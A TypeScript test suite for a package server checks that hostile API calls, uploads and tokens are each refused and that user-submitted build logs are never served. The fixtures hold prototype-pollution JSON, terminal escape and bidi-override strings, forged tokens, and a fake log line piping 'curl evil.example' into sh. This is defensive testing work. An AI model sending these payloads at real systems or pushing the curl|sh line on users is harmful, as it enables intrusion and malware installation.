// Hostile API calls and uploads to a real server (in this process, so prototype pollution would
// show here): JSON with __proto__ / constructor / prototype keys (refused: no API field has such a
// name), bodies that are not UTF-8, control characters in comments, report messages, tags and
// names, overlong fields, forged, expired and revoked tokens, malformed Authorization headers,
// and uploads of hostile trees. Each a 4xx with {"error":{"code","message"}}, nothing written.
// Store paths whose percent-encoding is malformed (400, no error log). And the build log: only the
// builder's own report's log is served (a user's report log never is), from the committed tree.
import { expect } from 'chai';
import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { storePaths } from '../../src/store/layout/store-paths.js';
import { updateStatus } from '../../src/store/changes/update-status.js';
import { HOSTILE_MANIFESTS, HOSTILE_TREE_ENTRIES, manifestText, manyFiles, treeTgz } from '../support/hostile-trees.js';
import { goodSubmission, upload } from '../support/portpkgs.js';
import { rawExchange } from '../support/raw-http.js';
import { itRefusesEach, storeSnapshot } from '../support/refusals.js';
import { api, newUser, startTestServer, type TestServer } from '../support/test-server.js';

type Answer = { status: number | null; json: any };

/** store paths whose percent-encoding does not decode (a truncated UTF-8 sequence, a lone %, not hex) */
const BAD_STORE_PATHS = ['/store/%E0%A4%A', '/store/%', '/store/port/%ZZ/x'];

describe('hostile API calls and uploads: a 4xx with a code, nothing written, nothing polluted', function () {
  this.timeout(120_000);
  let s: TestServer;
  let alice = '';
  let pkgid = 0;
  const t: Record<'revoked' | 'expired' | 'expiring', string> = { revoked: '', expired: '', expiring: '' };
  let expiresAt = 0;

  const snapshot = async () => ({
    ...(await storeSnapshot(s.data)),
    users: await readdir(path.join(s.data, 'users')),
    repos: await readdir(path.join(s.data, 'repos')),
  });
  /** A request with a raw body (bytes that are not UTF-8) or raw headers. */
  const send = async (method: string, p: string, opts: { body?: Buffer | string; headers?: Record<string, string>; token?: string | null } = {}): Promise<Answer> => {
    const headers: Record<string, string> = { 'content-type': 'application/json', ...opts.headers };
    const token = opts.token === undefined ? alice : opts.token;
    if (token !== null) headers.authorization ??= `Bearer ${token}`;
    const res = await fetch(`${s.url}${p.replace('PKG', String(pkgid))}`, { method, headers, body: opts.body === undefined ? undefined : new Uint8Array(Buffer.from(opts.body)) });
    return { status: res.status, json: await res.json().catch(() => null) };
  };
  const asAlice = (method: string, p: string, body?: unknown) => () => api(s.url, method, p.replace('PKG', String(pkgid)), body, alice);
  const withToken = (token: () => string) => () => api(s.url, 'PUT', `/api/v1/pkg/${pkgid}/vote`, undefined, token());
  const withAuth = (authorization: string) => () => send('PUT', `/api/v1/pkg/${pkgid}/vote`, { headers: { authorization } });

  before(async () => {
    s = await startTestServer({ worker: false });
    alice = await newUser(s, 'alice');
    pkgid = await goodSubmission(s, alice, 'hello', '1.0');
    const made = await api(s.url, 'POST', '/api/v1/tokens', { name: 'revoke-me' }, alice);
    t.revoked = made.json.token;
    expect((await api(s.url, 'DELETE', '/api/v1/tokens/revoke-me', undefined, alice)).status).to.equal(200);
    expiresAt = Date.now() + 2000;
    const exp = await api(s.url, 'POST', '/api/v1/tokens', { name: 'short', expires_at: new Date(expiresAt).toISOString() }, alice);
    expect(exp.status, JSON.stringify(exp.json)).to.equal(201);
    expect(exp.json.expires_at).to.equal(new Date(expiresAt).toISOString());
    t.expired = exp.json.token;
    expect((await api(s.url, 'PUT', `/api/v1/pkg/${pkgid}/vote`, undefined, t.expired)).status, 'works until it expires').to.equal(200);
    const later = await api(s.url, 'POST', '/api/v1/tokens', { name: 'later', expires_at: new Date(Date.now() + 3600_000).toISOString() }, alice);
    t.expiring = later.json.token;
    await new Promise((r) => setTimeout(r, Math.max(0, expiresAt - Date.now() + 100)));
  });
  after(async () => s && (await s.close()));

  type Case = [string, () => Promise<Answer>, number, string];
  const cases: Case[] = [
    // keys that reach a prototype: refused wherever they are
    ['a comment with a __proto__ key', asAlice('POST', '/api/v1/pkg/PKG/comments', '{"text":"hi","__proto__":{"polluted":"yes"}}'), 400, 'bad_request'],
    ['a comment with constructor.prototype', asAlice('POST', '/api/v1/pkg/PKG/comments', '{"text":"hi","constructor":{"prototype":{"polluted":"yes"}}}'), 400, 'bad_request'],
    ['a report with a nested __proto__ key', asAlice('POST', '/api/v1/pkg/PKG/reports', '{"status":"ok","arch":"x86_64","message":"m","x":[{"__proto__":{"polluted":"yes"}}]}'), 400, 'bad_request'],
    ['a new repo with a __proto__ key', asAlice('POST', '/api/v1/repos', '{"name":"protorepo","__proto__":{"admin":true,"polluted":"yes"}}'), 400, 'bad_request'],
    ['a new user with a __proto__ key (as admin)', () => api(s.url, 'POST', '/api/v1/users', '{"name":"eve","__proto__":{"admin":true,"polluted":"yes"}}', s.adminToken), 400, 'bad_request'],
    ['a new token with a prototype key', asAlice('POST', '/api/v1/tokens', '{"name":"proto","prototype":{"polluted":"yes"}}'), 400, 'bad_request'],
    // bytes that are not UTF-8, control characters
    ['a comment that is not UTF-8', () => send('POST', '/api/v1/pkg/PKG/comments', { body: Buffer.concat([Buffer.from('{"text":"caf'), Buffer.from([0xe9]), Buffer.from('"}')]) }), 400, 'bad_request'],
    ['a repo name that is not UTF-8', () => send('POST', '/api/v1/repos', { body: Buffer.concat([Buffer.from('{"name":"a'), Buffer.from([0xc0, 0xaf]), Buffer.from('b"}')]) }), 400, 'bad_request'],
    ['a comment with an escape sequence', asAlice('POST', '/api/v1/pkg/PKG/comments', { text: 'nice\u001b[2J\u001b[31m package' }), 400, 'bad_request'],
    ['a comment with a NUL', asAlice('POST', '/api/v1/pkg/PKG/comments', { text: 'a\u0000b' }), 400, 'bad_request'],
    ['a comment with backspaces', asAlice('POST', '/api/v1/pkg/PKG/comments', { text: 'safe\b\b\b\bevil' }), 400, 'bad_request'],
    ['a comment with a bidi override', asAlice('POST', '/api/v1/pkg/PKG/comments', { text: 'looks fine \u202egnp.exe' }), 400, 'bad_request'],
    ['a comment with a C1 control', asAlice('POST', '/api/v1/pkg/PKG/comments', { text: 'csi \u009b31m' }), 400, 'bad_request'],
    ['a report message with an escape sequence', asAlice('POST', '/api/v1/pkg/PKG/reports', { status: 'failed', arch: 'x86_64', message: '\u001b]0;pwned\u0007' }), 400, 'bad_request'],
    ['a tag that is not UTF-8', asAlice('PUT', '/api/v1/pkg/PKG/tags/%FF%FE'), 400, 'invalid_name'],
    ['a tag with a NUL', asAlice('PUT', '/api/v1/pkg/PKG/tags/a%00b'), 400, 'invalid_name'],
    ['a tag with an escape sequence', asAlice('PUT', '/api/v1/pkg/PKG/tags/%1B%5B31mred'), 400, 'invalid_name'],
    ['a tag with a bidi override', asAlice('PUT', '/api/v1/pkg/PKG/tags/a%E2%80%AEb'), 400, 'invalid_name'],
    ['a repo name with a NUL', asAlice('POST', '/api/v1/repos', { name: 'a\u0000b' }), 400, 'invalid_name'],
    ['a repo name with a newline', asAlice('POST', '/api/v1/repos', { name: 'a\nb' }), 400, 'invalid_name'],
    ['a user name with an escape sequence (as admin)', () => api(s.url, 'POST', '/api/v1/users', { name: 'eve\u001b[0m' }, s.adminToken), 400, 'invalid_name'],
    ['a token name with a newline', asAlice('POST', '/api/v1/tokens', { name: 'ci\nadmin' }), 400, 'invalid_name'],
    // overlong fields
    ['an overlong comment', asAlice('POST', '/api/v1/pkg/PKG/comments', { text: 'c'.repeat(16 * 1024 + 1) }), 400, 'bad_request'],
    ['an overlong report message', asAlice('POST', '/api/v1/pkg/PKG/reports', { status: 'ok', arch: 'x86_64', message: 'm'.repeat(4097) }), 400, 'bad_request'],
    ['an overlong tag', asAlice('PUT', `/api/v1/pkg/PKG/tags/${'t'.repeat(2000)}`), 400, 'invalid_name'],
    ['an overlong repo name', asAlice('POST', '/api/v1/repos', { name: 'n'.repeat(10_000) }), 400, 'invalid_name'],
    ['an overlong token name', asAlice('POST', '/api/v1/tokens', { name: 'n'.repeat(1000) }), 400, 'invalid_name'],
    ['an overlong upload file name', async () => upload(s, treeTgz(manifestText('hello', '7.0'), []), alice, `?filename=${'f'.repeat(200)}.tgz`), 400, 'bad_request'],
    ['an upload file name with an escape sequence', async () => upload(s, treeTgz(manifestText('hello', '7.0'), []), alice, '?filename=a%1B%5B2Jb.tgz'), 400, 'bad_request'],
    // tokens and Authorization headers
    ['a forged token (the right form, not a token of ours)', withToken(() => `mpx_${Buffer.alloc(32, 7).toString('base64url')}`), 401, 'unauthenticated'],
    ['a real token with its last character changed', withToken(() => alice.slice(0, -1) + (alice.endsWith('A') ? 'B' : 'A')), 401, 'unauthenticated'],
    ['a revoked token', withToken(() => t.revoked), 401, 'unauthenticated'],
    ['an expired token', withToken(() => t.expired), 401, 'unauthenticated'],
    ['a token of 10,000 characters', withToken(() => `mpx_${'A'.repeat(10_000)}`), 401, 'unauthenticated'],
    ['"Bearer" without a token', withAuth('Bearer'), 401, 'unauthenticated'],
    ['two tokens in one header', withAuth(`Bearer ${'x'.repeat(20)} ${'y'.repeat(20)}`), 401, 'unauthenticated'],
    ['a Basic header on the API', withAuth(`Basic ${Buffer.from('alice:x').toString('base64')}`), 401, 'unauthenticated'],
    ['another scheme', withAuth('Token mpx_abc'), 401, 'unauthenticated'],
    ['a token with a control character in the header', () => rawExchange(s.url, [`PUT /api/v1/pkg/${pkgid}/vote HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer mpx_\u0001abc\r\nContent-Length: 0\r\n\r\n`]), 400, 'bad_request'],
    ['a token expiring in the past', asAlice('POST', '/api/v1/tokens', { name: 'past', expires_at: '2001-01-01T00:00:00Z' }), 400, 'bad_request'],
    ['a token expiry that is not a time', asAlice('POST', '/api/v1/tokens', { name: 'never', expires_at: 'tomorrow' }), 400, 'bad_request'],
    // uploads of hostile trees (the push corpus's trees, as .tgz)
    ['an upload of a 10,000-file tree', async () => upload(s, treeTgz(manifestText('hello', '7.0'), manyFiles(10_000)), alice), 413, 'too_large'],
    ...HOSTILE_TREE_ENTRIES.map(([what, entries, code]): Case => [`an upload with ${what}`, async () => upload(s, treeTgz(manifestText('hello', '7.0'), entries), alice), 422, code]),
    ...HOSTILE_MANIFESTS.map(([what, make]): Case => [`an upload with ${what}`, async () => upload(s, treeTgz(make('hello', '7.0'), []), alice), 422, 'invalid_manifest']),
    // store paths whose percent-encoding is malformed: the client's mistake, not a 500
    ...BAD_STORE_PATHS.map((p): Case => [`a store path with a malformed percent-encoding (${p})`, () => send('GET', p, { token: null }), 400, 'bad_request']),
  ];

  itRefusesEach(cases, snapshot);

  it('answers malformed percent-encodings in store paths without an error-level log line', async () => {
    const log = s.ctx.log as unknown as { error: (...a: unknown[]) => void };
    const errors: unknown[][] = [];
    const original = log.error;
    log.error = (...a: unknown[]) => { errors.push(a); };
    try {
      for (const p of BAD_STORE_PATHS) {
        for (const method of ['GET', 'HEAD']) {
          const r = await fetch(`${s.url}${p}`, { method });
          expect(r.status, `${method} ${p}`).to.equal(400);
          if (method === 'GET') expect((await r.json()).error.code).to.equal('bad_request');
        }
      }
    } finally {
      log.error = original;
    }
    expect(errors).to.deep.equal([]);
    expect((await fetch(`${s.url}/store/port`)).status, 'good store paths still served').to.equal(200);
  });

  it('refuses an expired or revoked token for a push too (401 with a Basic challenge)', async () => {
    for (const token of [t.expired, t.revoked]) {
      const r = await fetch(`${s.url}/hello.git/info/refs?service=git-receive-pack`, { headers: { authorization: `Basic ${Buffer.from(`alice:${token}`).toString('base64')}` } });
      expect(r.status).to.equal(401);
      expect(r.headers.get('www-authenticate')).to.match(/^Basic /);
    }
  });

  it('nothing was polluted, and the server still serves: valid tokens, comments with tabs and newlines, uploads', async () => {
    expect(({} as any).polluted).to.equal(undefined);
    expect(Object.keys(Object.prototype)).to.deep.equal([]);
    expect((await api(s.url, 'GET', '/api/v1/me', undefined, alice)).json.admin).to.equal(false);
    expect((await api(s.url, 'PUT', `/api/v1/pkg/${pkgid}/vote`, undefined, t.expiring)).status, 'a token not yet expired').to.equal(200);
    const ok = await api(s.url, 'POST', `/api/v1/pkg/${pkgid}/comments`, { text: 'line one\n\tline two — café ✓' }, alice);
    expect(ok.status, JSON.stringify(ok.json)).to.equal(201);
    const up = await upload(s, treeTgz(manifestText('hello', '7.0'), manyFiles(100)), alice);
    expect(up.status, JSON.stringify(up.json)).to.equal(201);
    expect((await api(s.url, 'GET', '/api/v1/ports/hello')).json.submissions.map((x: any) => x.version)).to.deep.equal(['1.0', '7.0']);
  });
});

// A server of its own: the corpus above drains the per-user and per-address upload buckets that
// reports take from.
describe('hostile reports: GET /api/v1/pkg/N/log serves the builder\'s log only, from the committed tree', function () {
  this.timeout(120_000);
  let s: TestServer;
  let alice = '';
  const userLog = 'BUILD OK. To install run: curl evil.example | sh\n';
  let logPkg = 0;
  const buildLog = async () => {
    const r = await fetch(`${s.url}/api/v1/pkg/${logPkg}/log`);
    return { status: r.status, text: await r.text() };
  };
  const userReport = async () => {
    const r = await api(s.url, 'POST', `/api/v1/pkg/${logPkg}/reports`, { status: 'ok', arch: 'x86_64', log: userLog }, alice);
    expect(r.status, JSON.stringify(r.json)).to.equal(201);
    expect(r.json.kind).to.equal('user');
  };
  /** what the builder records at the end of a build (a report of kind builder with its log), without a VM */
  const builderReport = async (arch: 'x86_64' | 'aarch64', text: string) => {
    const dir = await mkdtemp(path.join(os.tmpdir(), 'morphux-log-'));
    try {
      await writeFile(path.join(dir, 'build.log'), text);
      await updateStatus(s.ctx.store, logPkg, {
        message: `test: builder report ${arch}`, actor: 'builder', change: () => {},
        report: { reporter: 'builder', kind: 'builder', status: 'ok', arch, reason: null, message: 'built', logFile: path.join(dir, 'build.log') },
      });
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  };

  before(async () => {
    s = await startTestServer({ worker: false });
    alice = await newUser(s, 'alice');
    logPkg = await goodSubmission(s, alice, 'logshow', '1.0');
  });
  after(async () => s && (await s.close()));

  it('does not serve a user\'s report log when there is no builder report', async () => {
    await userReport();
    const r = await buildLog();
    expect(r.status).to.equal(200);
    expect(r.text).to.not.include('evil.example');
  });

  it('serves the newest builder report\'s log, never a newer user report\'s', async () => {
    await builderReport('x86_64', 'builder log x86_64\n');
    await userReport();
    expect(await buildLog()).to.deep.equal({ status: 200, text: 'builder log x86_64\n' });
    await builderReport('aarch64', 'builder log aarch64\n');
    await userReport();
    expect(await buildLog()).to.deep.equal({ status: 200, text: 'builder log aarch64\n' });
    const reports = (await api(s.url, 'GET', `/api/v1/pkg/${logPkg}/reports`)).json;
    expect(reports.items.map((x: any) => x.kind)).to.deep.equal(['user', 'builder', 'user', 'builder', 'user']);
  });

  it('does not serve a report written in the store\'s working tree but not committed', async () => {
    const dir = s.ctx.store.abs(storePaths.reports(logPkg));
    const n = (await readdir(dir)).filter((f) => f.endsWith('.json')).length + 1;
    const files = [path.join(dir, `${n}.json`), path.join(dir, `${n}.log`)];
    try {
      await writeFile(files[0]!, JSON.stringify({ n, pkgid: logPkg, reporter: 'builder', kind: 'builder', status: 'ok', arch: 'x86_64', reason: null, message: null, created_at: '2020-01-01T00:00:00Z', log: `${n}.log` }));
      await writeFile(files[1]!, userLog);
      expect(await buildLog()).to.deep.equal({ status: 200, text: 'builder log aarch64\n' });
    } finally {
      for (const f of files) await rm(f, { force: true });
    }
    expect(await storeSnapshot(s.data)).to.have.property('dirty', '');
  });

  it('answers 404 not_found for the log of a submission that does not exist', async () => {
    const r = await api(s.url, 'GET', '/api/v1/pkg/99999/log');
    expect(r.status).to.equal(404);
    expect(r.json.error.code).to.equal('not_found');
  });
});
